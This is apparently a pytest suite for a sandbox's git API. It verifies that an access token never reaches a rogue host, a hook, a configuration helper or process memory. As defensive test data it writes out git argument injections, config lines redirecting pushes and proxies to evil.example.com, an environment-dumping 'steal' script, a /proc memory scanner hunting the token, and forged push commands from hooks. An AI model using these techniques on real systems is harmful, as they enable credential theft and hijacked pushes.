"""Git of the runtime API: what it does, and where the credential is not."""
import base64
import re
import time
import urllib.parse

import pytest

from egress_rig import WORLD
from git_rig import GitServer, git, make_authority
from harness import ASAN, RUNTIME, SLOW, wait_until
from traces import files_with
from world_rig import fixture_daemon, fixture_world  # noqa: F401  pylint: disable=unused-import

TOKEN = "ghs_planted0123456789TOKEN"
WHO = {"author_name": "Ana", "author_email": "ana@example.com"}


@pytest.fixture(name="authority", scope="module")
def fixture_authority(tmp_path_factory):
    return make_authority(tmp_path_factory.mktemp("authority"), "git.example.com", "evil.example.com")


@pytest.fixture(name="servers", scope="module")
def fixture_servers(world, authority, tmp_path_factory):
    """The caller's server, and another one with a good certificate that takes whatever it gets."""
    _, pem = authority
    world.names["git.example.com"] = [f"{WORLD}.2"]
    world.names["evil.example.com"] = [f"{WORLD}.3"]
    good = GitServer(tmp_path_factory.mktemp("git"), pem, world.listen(f"{WORLD}.2", 443), TOKEN)
    evil = GitServer(tmp_path_factory.mktemp("evil"), pem, world.listen(f"{WORLD}.3", 443), None)
    yield good, evil
    good.stop()
    evil.stop()


@pytest.fixture(name="repository")
def fixture_repository(servers):
    """A repository of its own for each test: its name."""
    name = f"r{time.monotonic_ns()}"
    for server in servers:
        server.add(name, {"a.txt": "one\n", "b/c.txt": "two\n"})
        server.seen.clear()
        server.redirect = None
    return name


@pytest.fixture(name="session")
def fixture_session(alice):
    made = alice.create_runtime(egress={"allow": ["git.example.com", "evil.example.com"]})
    yield made
    alice.delete(f"{RUNTIME}/{made}")


@pytest.fixture(name="call")
def fixture_call(alice, session, authority):
    """One act; those over the network have the credential and the authority unless they say otherwise."""
    def call(act, path="w", **body):
        url = f"{RUNTIME}/{session}/git/{act}"
        if act in ("status", "diff", "log"):
            return alice.get(url + "?" + urllib.parse.urlencode({"path": path, **body}))
        if act in ("clone", "fetch", "pull", "push"):
            body.setdefault("ca_certificates", authority[0])
            credentials = {"username": "x-access-token", "password": TOKEN}
            if "url" not in body:
                credentials["host"] = "git.example.com"
            body.setdefault("credentials", credentials)
        return alice.post(url, {"path": path, **body})
    return call


def url_of(repository, host="git.example.com"):
    return f"https://{host}/{repository}.git"


def code(answer):
    return answer.status, answer.json["code"]


def ok(answer):
    assert answer.status == 200, answer
    return answer.json


def write(alice, session, path, text):
    answer = alice.request("PUT", f"{RUNTIME}/{session}/files?path={urllib.parse.quote(path)}", raw_body=text.encode())
    assert answer.status == 200, answer


def test_a_turn(alice, session, call, repository, servers):
    good, evil = servers
    status = ok(call("clone", url=url_of(repository)))
    assert (status["current_branch"], status["upstream"], status["has_changes"]) == ("main", "origin/main", False)
    assert (status["ahead"], status["behind"], len(status["head"])) == (0, 0, 40)
    assert alice.run(session, "cat", "w/b/c.txt").text == "two\n"
    assert ok(call("branch", branch="feature/x"))["current_branch"] == "feature/x"
    write(alice, session, "w/a.txt", "one\nmore\n")
    write(alice, session, "w/new file", "new\n")
    assert ok(call("status"))["files"] == [{"index": None, "worktree": "modified", "path": "a.txt"},
                                          {"index": None, "worktree": "untracked", "path": "new file"}]
    diff = ok(call("diff"))
    assert diff["files"] == [{"added": 1, "deleted": 0, "binary": False, "path": "a.txt"}]
    assert "+more\n" in diff["diff"] and diff["truncated"] is False
    assert ok(call("diff", max_bytes=20))["truncated"] is True
    assert {one["index"] for one in ok(call("add", all=True))["files"]} == {"modified", "added"}
    assert len(ok(call("diff", staged="true"))["files"]) == 2
    commit = ok(call("commit", message="more\n\nof it\n", **WHO))
    assert (commit["subject"], commit["body"]) == ("more", "of it\n")
    for who in ("author", "committer"):
        assert (commit[who]["name"], commit[who]["email"]) == ("Ana", "ana@example.com")
    assert commit["parents"] == [status["head"]]
    assert ok(call("push", branch="feature/x", set_upstream=True)) == {"branch": "feature/x", "result": "new"}
    assert ok(call("push", branch="feature/x"))["result"] == "up_to_date"
    assert git("rev-parse", "feature/x", cwd=good.folder / f"{repository}.git") == commit["commit"]
    assert ok(call("status"))["upstream"] == "origin/feature/x"
    log = ok(call("log"))
    assert [one["subject"] for one in log["commits"]] == ["more", "first"] and not log["truncated"]
    log = ok(call("log", limit=1))
    assert len(log["commits"]) == 1 and log["truncated"]
    assert ok(call("checkout", ref="main"))["current_branch"] == "main"
    assert ok(call("checkout", ref=commit["commit"]))["current_branch"] is None
    assert not evil.seen


def test_fetch_and_pull(call, repository, servers, tmp_path):
    ok(call("clone", url=url_of(repository)))
    git("clone", "-q", str(servers[0].folder / f"{repository}.git"), str(tmp_path / "other"))
    git("commit", "-q", "--allow-empty", "-m", "theirs", cwd=tmp_path / "other")
    git("push", "-q", "origin", "main", "main:side", cwd=tmp_path / "other")
    fetched = ok(call("fetch"))
    assert (fetched["ahead"], fetched["behind"]) == (0, 1)
    pulled = ok(call("pull"))
    assert (pulled["ahead"], pulled["behind"]) == (0, 0)
    assert pulled["head"] == git("rev-parse", "main", cwd=tmp_path / "other")
    ok(call("checkout", ref="side"))
    # Both sides have changed.
    ok(call("commit", message="ours", allow_empty=True, **WHO))
    git("commit", "-q", "--allow-empty", "-m", "again", cwd=tmp_path / "other")
    git("push", "-q", "origin", "main:side", cwd=tmp_path / "other")
    assert code(call("push", branch="side")) == (409, "git_rejected")
    assert code(call("pull")) == (409, "git_conflict")
    assert ok(call("push", branch="side", force=True))["result"] == "forced"


def test_shallow(alice, session, call, repository, servers, tmp_path):
    git("clone", "-q", str(servers[0].folder / f"{repository}.git"), str(tmp_path / "other"))
    for n in range(3):
        git("commit", "-q", "--allow-empty", "-m", f"theirs {n}", cwd=tmp_path / "other")
    git("push", "-q", "origin", "main:side", cwd=tmp_path / "other")
    ok(call("clone", url=url_of(repository), depth=1, branch="side"))
    assert len(ok(call("log"))["commits"]) == 1
    ok(call("fetch", branch="side", depth=3))
    assert len(ok(call("log"))["commits"]) == 3
    write(alice, session, "w/a.txt", "x\n")
    ok(call("add", paths=["a.txt"]))
    ok(call("commit", message="x", **WHO))
    assert ok(call("push", branch="side"))["result"] == "updated"


def test_a_large_pack(alice, session, call, repository):
    """Larger than what goes with its length, both ways."""
    ok(call("clone", url=url_of(repository)))
    alice.run(session, "sh", "-c", "head -c 5000000 /dev/urandom >w/big; sha256sum w/big >sum")
    ok(call("add", paths=["big"]))
    ok(call("commit", message="big", **WHO))
    assert ok(call("push", branch="main"))["result"] == "updated"
    ok(call("clone", "again", url=url_of(repository)))
    assert alice.run(session, "sh", "-c", "cd again/.. && sed s,w/,again/, sum | sha256sum -c").code == 0


def test_log_of_a_repository_without_a_commit(alice, session, call):
    alice.run(session, "git", "init", "-q", "-b", "main", "w")
    assert ok(call("log")) == {"commits": [], "truncated": False}
    assert code(call("log", ref="main"))[0] == 404
    assert ok(call("status"))["head"] is None


def test_errors(alice, session, call, repository):
    assert code(call("status", "nowhere")) == (404, "file_not_found")
    assert code(call("status", "/session")) == (409, "not_a_repository")
    assert code(call("fetch", "/session")) == (409, "not_a_repository")
    wrong = {"username": "x-access-token", "password": "wrong"}
    refused = call("clone", url=url_of(repository), credentials=wrong)
    assert (code(refused), refused.json["detail"]) == ((403, "git_auth"), "the git server refuses the credentials")
    refused = call("clone", url=url_of(repository), credentials=None)
    assert (code(refused), refused.json["detail"]) == ((403, "git_auth"), "the git server wants credentials, and none were given")
    assert code(call("clone", url=url_of("missing"))) == (404, "git_not_found")
    answer = call("clone", url="https://other.example.com/r.git")
    assert code(answer) == (502, "git_unreachable")
    assert answer.json["detail"] == "no rule of the sandbox permits the git server's host"
    assert answer.json["retryable"] is False and answer.json["stderr"]
    assert code(call("clone", url=url_of(repository), ca_certificates=None)) == (502, "git_unreachable")
    assert code(call("clone", url=url_of(repository), branch="none")) == (404, "git_not_found")
    ok(call("clone", url=url_of(repository)))
    assert code(call("clone", url=url_of(repository))) == (409, "exists")
    assert code(call("commit", message="x", **WHO)) == (409, "nothing_to_commit")
    assert code(call("checkout", ref="none")) == (404, "git_not_found")
    assert code(call("branch", branch="main")) == (409, "exists")
    assert code(call("add", paths=["none"])) == (404, "git_not_found")
    assert code(call("push", branch="none")) == (404, "git_not_found")
    assert code(call("fetch", remote="none")) == (404, "git_not_found")
    write(alice, session, "w/.git/index.lock", "")
    failed = call("add", all=True)
    assert code(failed) == (422, "git_failed") and "index.lock" in failed.json["stderr"]


@pytest.mark.parametrize("act, body", [
    ("clone", {"url": "ssh://git@git.example.com/r.git"}),
    ("clone", {"url": "git@git.example.com:r.git"}),
    ("clone", {"url": "ext::sh -c id"}),
    ("clone", {"url": "file:///session/w"}),
    ("clone", {"url": "/session/w"}),
    ("clone", {"url": "--upload-pack=id"}),
    ("clone", {"url": "https://u:p@git.example.com/r.git"}),
    ("clone", {"url": "https://git.example.com/r.git\nx"}),
    ("clone", {"url": "https://git.example.com/r.git", "branch": "--upload-pack=id"}),
    ("clone", {"url": "https://git.example.com/r.git", "path": "/etc"}),
    ("clone", {"url": "https://git.example.com/r.git", "path": "../x"}),
    ("clone", {"url": "http://git.example.com/r.git"}),
    ("clone", {"url": "https://git.example.com/r.git",
               "credentials": {"username": "u", "password": "p", "host": "evil.example.com"}}),
    ("clone", {"url": "https://git.example.com/r.git", "credentials": {"username": "u:v", "password": "p"}}),
    ("clone", {"url": "https://git.example.com/r.git", "credentials": {"username": "u"}}),
    ("push", {"branch": "main", "credentials": {"username": "u", "password": "p"}}),
    ("push", {"branch": "main", "credentials": {"username": "u", "password": "p", "host": "git.example.com/x"}}),
    ("push", {"branch": "a b"}),
    ("push", {"branch": "a..b"}),
    ("push", {"branch": ":main"}),
    ("push", {"branch": "+main"[0] + "~"}),
    ("push", {"branch": "main", "remote": "-x"}),
    ("push", {"branch": "main", "remote": "ext::id"}),
    ("fetch", {"remote": "origin", "url": "https://git.example.com/r.git"}),
    ("branch", {"branch": "-d"}),
    ("checkout", {"ref": "--orphan"}),
    ("checkout", {"ref": "main:a"}),
    ("add", {}),
    ("add", {"all": True, "paths": ["a"]}),
    ("commit", {"message": "x", "author_name": "a\nb", "author_email": "x@y"}),
    ("commit", {"message": "x", "author_name": "a", "author_email": "<x>"}),
])
def test_bad_input(call, act, body):
    answer = call(act, **body)
    assert answer.status == 422, answer
    for value in ("p@", "u:v", "--upload-pack", "ssh:"):
        assert value not in answer.body.decode().split('"loc"')[-1], "nothing of the input comes back"


def credentials_in(server):
    return [one for one in server.seen if one[3]]


def test_the_other_host_gets_nothing(alice, session, call, repository, servers):
    good, evil = servers
    ok(call("clone", url=url_of(repository)))
    # The remote leads elsewhere.
    alice.run(session, "git", "-C", "w", "remote", "set-url", "origin", url_of(repository, "evil.example.com"))
    assert code(call("push", branch="main")) == (403, "denied")
    assert code(call("fetch")) == (403, "denied")
    # So does the server.
    good.redirect = lambda path: f"https://evil.example.com{path}"
    assert code(call("clone", "x", url=url_of(repository))) == (403, "denied")
    good.redirect = lambda path: None if "info/refs" in path else f"https://evil.example.com{path}"
    assert code(call("clone", "x", url=url_of(repository))) == (403, "denied"), "of what follows as well"
    assert not evil.seen
    # On the same host it is followed.
    good.redirect = lambda path: f"https://git.example.com/{repository}.git/info/refs?" + path.split("?")[1]
    assert code(call("clone", "x", url=url_of("was/here"))) == (422, "git_failed"), "a circle"
    good.redirect = None


def test_no_configuration_moves_it(alice, session, call, repository, servers):
    """Each line would give the credential away, or run a program beside it, to a git that has one."""
    good, evil = servers
    ok(call("clone", url=url_of(repository)))
    steal = "/session/steal"
    write(alice, session, "steal", "#!/bin/sh\n{ echo ran $0 $*; env; cat; } >>/session/stolen 2>&1\nexit 0\n")
    alice.run(session, "chmod", "755", "steal")
    lines = [
        f"url.{url_of('', 'evil.example.com')[:-4]}.insteadOf", "https://git.example.com/",
        f"url.{url_of('', 'evil.example.com')[:-4]}.pushInsteadOf", "https://git.example.com/",
        "http.proxy", "http://evil.example.com:443", "http.sslVerify", "false", "http.followRedirects", "true",
        "http.extraHeader", "X-Evil: 1", "http.cookieFile", "/session/cookies", "http.saveCookies", "true",
        "credential.helper", f"!{steal}", f"credential.{url_of('')}.helper", f"!{steal}", "core.askPass", steal,
        "core.sshCommand", steal, "core.gitProxy", steal, "core.fsmonitor", steal, "remote.origin.uploadpack", steal,
        "remote.origin.receivepack", steal, "remote.origin.proxy", "http://evil.example.com:443",
        "push.recurseSubmodules", "on-demand", "push.gpgSign", "true", "commit.gpgSign", "true", "gpg.program", steal,
    ]
    for scope in ("--global", "--local"):
        for name, value in zip(lines[::2], lines[1::2]):
            assert alice.run(session, "git", "-C", "w", "config", scope, "--add", name, value).code == 0
    write(alice, session, "w/a.txt", "changed\n")
    ok(call("add", all=True))
    ok(call("commit", message="x", **WHO))
    # It goes where the caller said, or nowhere.
    pushed = call("push", branch="main")
    assert pushed.status in (200, 422), pushed
    ok(call("push", branch="main", url=url_of(repository)))
    ok(call("fetch", url=url_of(repository)))
    assert not evil.seen
    assert TOKEN not in alice.run(session, "sh", "-c", "cat stolen; true").text
    assert all(one[3] in (None, good.authorization()) for one in good.seen)


LOOK = """\
import base64, glob, os, time
token = bytes.fromhex("%s")
wanted = [token, base64.b64encode(b"x-access-token:" + token)]
seen, found = set(), set()
def look(path):
    try:
        with open(path, "rb", 0) as file:
            return file.read(1 << 20)
    except OSError:
        return b""
def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                words = line.split()
                begin, end = (int(one, 16) for one in words[0].split("-"))
                if "r" not in words[1] or end - begin > 1 << 26 or "[v" in line:
                    continue
                try:
                    mem.seek(begin)
                    yield mem.read(end - begin)
                except OSError:
                    pass
    except OSError:
        pass
open("/session/looking", "w").close()
while not os.path.exists("/session/enough"):
    for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        name = look(f"/proc/{pid}/comm").strip()
        if not name or name.startswith(b"python"):
            continue
        seen.add(name.decode())
        for part in ("cmdline", "environ"):
            if any(one in look(f"/proc/{pid}/{part}") for one in wanted):
                found.add(f"{name.decode()} {part}")
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if target.startswith("pipe:"):
                continue  # a read would take it away; it is the next row's
        if any(one in piece for piece in memory(pid) for one in wanted):
            found.add(f"{name.decode()} memory")
print(sorted(seen))
print(sorted(found))
"""


def everything_in(alice, session, token):
    """Files of the session that have the token, as the session's root sees them."""
    script = ("grep -rlaF -e \"$1\" -e \"$2\" /session /tmp /dev/shm 2>/dev/null;"
              " for p in /proc/[0-9]*; do [ $p = /proc/$$ ] || grep -laF \"$1\" $p/environ $p/cmdline 2>/dev/null; done; true")
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    answer = alice.post(f"{RUNTIME}/{session}/commands", {
        "argv": ["sh", "-c", "read one; read two; set -- \"$one\" \"$two\"; " + script], "stdin": f"{token}\n{basic}\n"})
    return [line for line in re.findall(r"/\S+", "".join(
        part for part in re.findall(r'"text":"((?:[^"\\]|\\.)*)"', answer.body.decode())))
            if "stdin" not in line]


def test_nobody_in_the_session_sees_it(alice, session, call, repository, daemon, servers):
    """A program of the same user looks into every process while pushes go on; hooks look too."""
    good, _ = servers
    ok(call("clone", url=url_of(repository)))
    write(alice, session, "look.py", LOOK % TOKEN.encode().hex())
    looker = alice.post(f"{RUNTIME}/{session}/commands", {"argv": ["python3", "look.py"], "background": True})
    assert looker.status == 201, looker
    wait_until(lambda: alice.get(f"{RUNTIME}/{session}/files/stat?path=looking").status == 200, 20, "it looks")
    hook = "#!/bin/sh\n{ echo $0; env; cat /proc/$PPID/environ /proc/$PPID/cmdline; ls -l /proc/$PPID/fd; } >>/session/hooked 2>&1\n"
    for name in ("pre-push", "reference-transaction", "post-checkout", "post-merge"):
        write(alice, session, f"w/.git/hooks/{name}", hook)
        alice.run(session, "chmod", "755", f"w/.git/hooks/{name}")
    for n in range(6):
        alice.run(session, "sh", "-c", f"head -c {1000 if n else 3000000} /dev/urandom | base64 >w/f{n}")
        ok(call("add", all=True))
        ok(call("commit", message=f"c{n}", **WHO))
        ok(call("push", branch="main"))
        ok(call("pull"))
    write(alice, session, "enough", "")
    ended = alice.get(f"{RUNTIME}/{session}/commands/{looker.json['command_id']}/wait?timeout_ms={60000 * SLOW}",
                      timeout=90 * SLOW)
    assert ended.json["exit"]["code"] == 0, ended
    stream = alice.get(f"{RUNTIME}/{session}/commands/{looker.json['command_id']}/stream").body.decode()
    assert "'git'" in stream, "the control: git's own processes are seen"
    assert "sandbox-git" not in stream and "[]" in stream, stream
    hooked = alice.run(session, "cat", "hooked").text
    assert "pre-push" in hooked and "reference-transaction" in hooked, hooked
    assert TOKEN not in hooked
    assert not everything_in(alice, session, TOKEN)
    assert credentials_in(good), "the server was given it"
    assert not files_with(TOKEN.encode(), daemon.state), "state and logs of the service"


def test_a_hook_pushes_nothing_else(alice, session, call, repository, servers):
    """What holds the socket may ask for this repository, and change the ref of the call alone."""
    ok(call("clone", url=url_of(repository)))
    write(alice, session, "w/.git/hooks/pre-push",
          "#!/bin/sh\nhead=$(git rev-parse HEAD)\n"
          "{ printf '%s' 0086; printf '0%.0s' $(seq 40); printf ' %s refs/heads/stolen\\0 report-status agent=x' $head; } >/dev/null\n"
          "python3 - $head <<'X'\nimport os, sys\n"
          "line = ('0' * 40 + ' ' + sys.argv[1] + ' refs/heads/stolen\\0 report-status').encode()\n"
          "os.write(3, b'%04x' % (len(line) + 4) + line + b'0000')\nX\n")
    alice.run(session, "chmod", "755", "w/.git/hooks/pre-push")
    write(alice, session, "w/a.txt", "x\n")
    ok(call("add", all=True))
    ok(call("commit", message="x", **WHO))
    answer = call("push", branch="main")
    assert code(answer) == (403, "denied"), answer
    assert git("for-each-ref", "--format=%(refname)", cwd=servers[0].folder / f"{repository}.git") == "refs/heads/main"


def hook_that_pushes(line):
    """A pre-push hook that says its own update on the socket before git does."""
    return ("#!/bin/sh\nhead=$(git rev-parse HEAD)\nold=$(git rev-parse origin/main)\npython3 - $old $head <<'X'\nimport os, sys\n"
            f"line = ({line}).encode()\n"
            "os.write(3, b'%04x' % (len(line) + 4) + line + b'0000' + b'000aoption' + b'0000')\nX\n")


def test_no_option_goes_with_a_push(alice, session, call, repository, servers, tmp_path):
    """A server may merge by one: neither a configuration nor a hook of the session says any to it."""
    bare = servers[0].folder / f"{repository}.git"
    git("config", "receive.advertisePushOptions", "true", cwd=bare)
    said = tmp_path / "said"
    hook = bare / "hooks" / "pre-receive"
    hook.write_text(f"#!/bin/sh\necho \"$GIT_PUSH_OPTION_COUNT:$GIT_PUSH_OPTION_0\" >>{said}\n")
    hook.chmod(0o755)
    git("push", "-q", "-o", "merge", str(bare), "main:control", cwd=servers[0].folder / f"{repository}.work")
    assert said.read_text() == "1:merge\n", "the control"

    ok(call("clone", url=url_of(repository)))
    for scope in ("--global", "--local"):
        assert alice.run(session, "git", "-C", "w", "config", scope, "--add", "push.pushOption", "merge").code == 0
    write(alice, session, "w/a.txt", "x\n")
    ok(call("add", all=True))
    ok(call("commit", message="x", **WHO))
    ok(call("push", branch="main"))
    assert said.read_text().splitlines()[1:] in ([":"], ["0:"]), said.read_text()

    write(alice, session, "w/a.txt", "y\n")
    ok(call("add", all=True))
    ok(call("commit", message="y", **WHO))
    write(alice, session, "w/.git/hooks/pre-push",
          hook_that_pushes("sys.argv[1] + ' ' + sys.argv[2] + ' refs/heads/main\\0 report-status push-options'"))
    alice.run(session, "chmod", "755", "w/.git/hooks/pre-push")
    assert code(call("push", branch="main")) == (403, "denied")
    assert len(said.read_text().splitlines()) == 2, said.read_text()


def memory_of(pid):
    """Readable memory of a process, as root sees it, piece by piece."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            words = line.split()
            begin, end = (int(one, 16) for one in words[0].split("-"))
            if "r" not in words[1] or line.rstrip().endswith(("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                continue
            try:
                mem.seek(begin)
                yield words[-1], mem.read(end - begin)
            except OSError:
                pass  # not there, or gone by now


@pytest.mark.skipif(ASAN, reason="a sanitizer keeps memory that was freed, and terabytes of its own")
def test_the_worker_forgets_it(daemon, alice, session, call, repository):
    """When a call is over, no memory of the api worker has its credential any more. The body goes with
    the request, a moment after the answer."""
    pid = daemon.worker_pid("sandboxd-api")
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode())
    ok(call("clone", url=url_of(repository)))
    ok(call("fetch"))
    wrong = {"username": "x-access-token", "password": TOKEN, "host": 7}
    assert call("clone", "x", url=url_of(repository), credentials=wrong).status == 422
    assert code(call("status", "nowhere")) == (404, "file_not_found")
    assert alice.post(f"{RUNTIME}/{'0' * 8}-0000-4000-8000-{'0' * 12}/git/fetch", {
        "path": "w", "credentials": {"username": "x-access-token", "password": TOKEN, "host": "git.example.com"}}).status == 404

    def found(mark):
        return {where for where, piece in memory_of(pid) if mark in piece}

    assert found(session.encode()), "the control: what is in its memory is found"
    wait_until(lambda: not found(TOKEN.encode()) and not found(basic), 10, "the credential is forgotten")
